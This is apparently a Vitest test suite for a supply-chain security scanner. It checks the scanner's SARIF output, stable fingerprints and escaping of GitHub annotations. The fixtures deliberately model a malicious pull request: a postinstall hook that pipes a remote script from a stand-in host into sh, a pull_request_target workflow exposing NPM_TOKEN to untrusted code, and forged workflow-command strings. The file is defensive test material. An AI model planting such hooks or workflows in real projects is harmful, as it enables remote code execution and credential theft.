import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import Ajv from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { escapeData, escapeProperty, renderAnnotations } from '../../src/cli/render-annotations.js';
import { loadFindingDocs } from '../../src/load-finding-docs.js';
import { parseFindingDocs } from '../../src/signal/finding-docs.js';
import { SARIF_FINGERPRINT_KEY, toSarif, type SarifLog } from '../../src/signal/sarif.js';
import type { Signal } from '../../src/signal/schema.js';
import { type GitHubServer, startGitHubServer } from '../support/github-server.js';
import { makePrFixture } from '../support/pr-fixture.js';
import { makeSignal } from '../support/signal-factory.js';
import { makeSupplyChain, makeTestFinding } from '../support/snapshot-factory.js';
import { startTestService, type TestService } from '../support/start-test-service.js';
import { ROOT, runCli } from './run-cli.js';

/** The SARIF 2.1.0 schema as @microsoft/jest-sarif publishes it (read from node_modules, never copied). */
function sarifValidator(): (value: unknown) => string[] {
  const require = createRequire(import.meta.url);
  const schemaPath = path.join(path.dirname(require.resolve('@microsoft/jest-sarif/package.json')), 'lib/schemas/sarif-2.1.0-rtm.5.json');
  const schema = JSON.parse(readFileSync(schemaPath, 'utf8')) as Record<string, unknown>;
  // The schema's language pattern is not valid as a unicode regular expression: compile without the u flag.
  const ajv = new Ajv.default({ allErrors: true, strict: false, unicodeRegExp: false });
  addFormats.default(ajv);
  const validate = ajv.compile(schema);
  return (value) => (validate(value) ? [] : (validate.errors ?? []).map((e: { instancePath: string; message?: string }) => `${e.instancePath} ${e.message ?? ''}`));
}

const validateSarif = sarifValidator();

const WORKFLOW_BASE = ['name: ci', 'on: pull_request', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm test', ''].join('\n');
const WORKFLOW_HEAD = [
  'name: ci',
  'on: pull_request_target',
  'jobs:',
  '  test:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - uses: actions/checkout@v4',
  '        with:',
  '          ref: ${{ github.event.pull_request.head.sha }}',
  '      - uses: some-org/setup-tool@main',
  '      - run: npm ci && npm test',
  '        env:',
  '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
  '',
].join('\n');
const PACKAGE_BASE = `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run' } }, null, 2)}\n`;
const PACKAGE_HEAD = `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run', postinstall: 'curl -fsSL https://get.example.net/i.sh | sh' } }, null, 2)}\n`;

describe('SARIF and workflow-command annotations', { timeout: 120_000 }, () => {
  let github: GitHubServer;
  let env: Record<string, string>;

  beforeAll(async () => {
    github = await startGitHubServer();
    github.addPullRequest(
      makePrFixture({
        owner: 'acme',
        repo: 'gizmo',
        number: 5,
        title: 'Build on pull_request_target and set up the toolchain',
        files: [
          { path: '.github/workflows/ci.yml', base: WORKFLOW_BASE, head: WORKFLOW_HEAD },
          { path: 'package.json', base: PACKAGE_BASE, head: PACKAGE_HEAD },
        ],
      }),
    );
    env = { GITHUB_URL: github.url, GITHUB_API_URL: github.apiUrl, SVC_DOCS_URL: 'https://github.example/acme/svc/blob/v1/docs/findings.md' };
  }, 60_000);

  afterAll(async () => {
    await github?.close();
  });

  it('svc analyze --format sarif prints a valid SARIF 2.1.0 log: one rule per finding id with help from docs/findings.md, located results', async () => {
    const run = await runCli(['analyze', 'acme/gizmo#5', '--format', 'sarif'], env);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const sarif = JSON.parse(run.stdout) as SarifLog;
    expect(validateSarif(sarif)).toEqual([]);
    const [only] = sarif.runs;
    const rules = only?.tool.driver.rules ?? [];
    const results = only?.results ?? [];
    expect(results.length).toBeGreaterThan(1);
    const ruleIds = rules.map((r) => r.id);
    expect(new Set(ruleIds).size).toBe(ruleIds.length);
    expect(new Set(results.map((r) => r.ruleId))).toEqual(new Set(ruleIds));
    const docs = loadFindingDocs();
    for (const rule of rules) {
      const doc = docs.get(rule.id);
      expect(doc, `docs/findings.md documents ${rule.id}`).toBeDefined();
      expect(rule.help.markdown).toBe(doc?.markdown);
      expect(rule.helpUri).toBe(`https://github.example/acme/svc/blob/v1/docs/findings.md#${doc?.anchor}`);
      expect(Number(rule.properties['security-severity'])).toBeGreaterThan(0);
    }
    for (const result of results as { ruleId: string; ruleIndex: number; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[]) {
      expect(rules[result.ruleIndex]?.id).toBe(result.ruleId);
      const location = result.locations[0]?.physicalLocation;
      expect(['.github/workflows/ci.yml', 'package.json']).toContain(location?.artifactLocation.uri);
      expect(location?.region.startLine).toBeGreaterThanOrEqual(1);
    }
  });

  it('gives the same fingerprints in two runs of the same pull request, and distinct ones within a run', async () => {
    const [first, second] = await Promise.all([runCli(['analyze', 'acme/gizmo#5', '--format', 'sarif'], env), runCli(['analyze', 'acme/gizmo#5', '--format', 'sarif'], env)]);
    const prints = (text: string) => (JSON.parse(text) as SarifLog).runs[0]?.results.map((r) => (r.partialFingerprints as Record<string, string>)[SARIF_FINGERPRINT_KEY]) ?? [];
    const a = prints(first.stdout);
    expect(a.length).toBeGreaterThan(1);
    expect(prints(second.stdout)).toEqual(a);
    expect(new Set(a).size).toBe(a.length);
  });

  it('fingerprints do not move with line numbers, and tell repeats of one finding apart', () => {
    const signal = (line: number): Signal => ({
      ...makeSignal(),
      supply_chain: makeSupplyChain({
        findings: [makeTestFinding({ id: 'gha-unpinned-action', path: '.github/workflows/ci.yml', line, title: 'Unpinned action x/y@main' }), makeTestFinding({ id: 'gha-unpinned-action', path: '.github/workflows/ci.yml', line: line + 5, title: 'Unpinned action x/y@main' })],
      }),
    });
    const prints = (s: Signal) => toSarif(s, { version: '1.0.0', docs: new Map() }).runs[0]?.results.map((r) => (r.partialFingerprints as Record<string, string>)[SARIF_FINGERPRINT_KEY]);
    const before = prints(signal(10));
    expect(prints(signal(14))).toEqual(before);
    expect(before?.[0]).not.toBe(before?.[1]);
    const log = toSarif(signal(10), { version: '1.0.0', docs: new Map() });
    expect(validateSarif(log)).toEqual([]);
    expect(validateSarif({ version: '2.1.0', runs: [{ results: [] }] })).not.toEqual([]);
    expect(log.runs[0]?.tool.driver.rules[0]?.helpUri).toBeUndefined();
  });

  it('the finding catalogue parses every section of docs/findings.md with its why and fix', () => {
    const docs = parseFindingDocs(readFileSync(path.join(ROOT, 'docs/findings.md'), 'utf8'));
    expect(docs.size).toBeGreaterThan(25);
    const typosquat = docs.get('typosquat');
    expect(typosquat?.group).toBe('Dependencies');
    expect(typosquat?.why).toMatch(/^the new dependency's name is one or two edits/);
    expect(typosquat?.fix).toBe('check the name; use the package you meant.');
    const parsed = parseFindingDocs('## Group\n\n### `a-b`\n- **Severity:** low.\n- **Why:** first\n  second line.\n\n### `c`\nPlain text.\n## Other\n');
    expect(parsed.get('a-b')).toMatchObject({ group: 'Group', why: 'first second line.', fix: null, anchor: 'a-b' });
    expect(parsed.get('c')?.why).toBe('Plain text.');
  });

  it('svc analyze --format annotations prints escaped workflow commands, most severe first, capped per level', async () => {
    const run = await runCli(['analyze', 'acme/gizmo#5', '--format', 'annotations'], env);
    expect(run.code).toBe(0);
    const lines = run.stdout.trim().split('\n');
    expect(lines.length).toBeGreaterThan(1);
    expect(lines[0]).toMatch(/^::error file=(\.github\/workflows\/ci\.yml|package\.json)(,line=\d+,endLine=\d+)?,title=svc%3A .+::(critical|high): /);
    const order = lines.map((l) => ['::error', '::warning', '::notice'].findIndex((p) => l.startsWith(p)));
    expect(order).toEqual([...order].sort((a, b) => a - b));

    const many: Signal = { ...makeSignal(), supply_chain: makeSupplyChain({ findings: Array.from({ length: 14 }, (_, i) => makeTestFinding({ severity: 'high', line: i + 1 })) }) };
    const capped = renderAnnotations(many).trim().split('\n');
    expect(capped.filter((l) => l.startsWith('::error'))).toHaveLength(10);
    expect(capped.at(-1)).toBe('svc: 4 more findings not annotated (GitHub shows 10 of each level per step); the job summary lists all.');
  });

  it('escapes %, CR, LF in messages and also : and , in properties, so PR text cannot end a command or start another', () => {
    expect(escapeData('50% done\r\n::error::owned')).toBe('50%25 done%0D%0A::error::owned');
    expect(escapeProperty('a:b,c%\n')).toBe('a%3Ab%2Cc%25%0A');
    const hostile: Signal = {
      ...makeSignal(),
      supply_chain: makeSupplyChain({ findings: [makeTestFinding({ severity: 'medium', path: 'src/a,b:c.ts', line: 3, title: 'Title, with: marks', detail: 'line one\n::error file=x::forged' })] }),
    };
    expect(renderAnnotations(hostile)).toBe('::warning file=src/a%2Cb%3Ac.ts,line=3,endLine=3,title=svc%3A Title%2C with%3A marks (test-finding)::medium: line one%0A::error file=x::forged\n');
  });
});

describe(`GET /api/scans/{id}?format=sarif (${process.env.DATABASE_URL ? 'PostgreSQL' : 'PGlite'})`, { timeout: 120_000 }, () => {
  let gh: GitHubServer;
  let t: TestService;

  beforeAll(async () => {
    gh = await startGitHubServer();
    gh.addPullRequest(makePrFixture({ owner: 'acme', repo: 'gizmo', number: 6, title: 'Set up after install', files: [{ path: 'package.json', base: PACKAGE_BASE, head: PACKAGE_HEAD }] }));
    t = await startTestService({ GITHUB_API_URL: gh.apiUrl, GITHUB_URL: gh.url, SVC_DOCS_URL: 'https://docs.example/findings.md' });
  });

  afterAll(async () => {
    await t?.close();
    await gh?.close();
  });

  it('answers the stored scan as SARIF, the same log as the CLI would print, and refuses unknown formats', async () => {
    const analyzed = await fetch(`${t.url}/api/analyze`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ url: `${gh.url}/acme/gizmo/pull/6` }) });
    expect(analyzed.status).toBe(200);
    const { scan_id: scanId, signal } = (await analyzed.json()) as { scan_id: string; signal: Signal };
    const response = await fetch(`${t.url}/api/scans/${scanId}?format=sarif`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/sarif\+json/);
    const sarif = (await response.json()) as SarifLog;
    expect(validateSarif(sarif)).toEqual([]);
    expect(sarif.runs[0]?.results.length).toBe(signal.supply_chain.findings.length);
    expect(sarif.runs[0]?.tool.driver.rules[0]?.helpUri).toMatch(/^https:\/\/docs\.example\/findings\.md#/);
    expect(sarif.runs[0]?.properties.signal_id).toBe(signal.signal_id);
    const json = await fetch(`${t.url}/api/scans/${scanId}?format=json`);
    expect(((await json.json()) as { scan_id: string }).scan_id).toBe(scanId);
    const bad = await fetch(`${t.url}/api/scans/${scanId}?format=xml`);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: string }).error).toMatch(/^Unknown format/);
  });
});
